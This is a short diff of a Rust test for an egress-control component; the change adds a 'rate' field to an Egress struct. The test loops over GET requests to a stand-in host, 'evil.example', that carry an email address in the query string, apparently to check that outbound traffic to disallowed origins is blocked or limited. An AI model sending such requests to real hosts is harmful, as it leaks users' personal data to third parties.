@@ -575,8 +575,13 @@ mod tests {
         let tenant = Tenant::new("t".into(), Connection::new("key"), Limits::default(), Arc::new(UnpooledSender));
         let ongoing = observer.begin(&tenant, None).await.unwrap();
         let traffic = Arc::new(Traffic::of(ongoing.call(), tenant.limits()));
-        let mut egress =
-            Egress { allowed: tenant.origin().cloned(), vault: None, traffic: traffic.clone(), sender: tenant.sender() };
+        let mut egress = Egress {
+            allowed: tenant.origin().cloned(),
+            vault: None,
+            traffic: traffic.clone(),
+            sender: tenant.sender(),
+            rate: None,
+        };
         let work = async {
             for _ in 0..100 {
                 let request = Request::get("https://evil.example/?email=a@b.de").body(WasiBody::default()).unwrap();
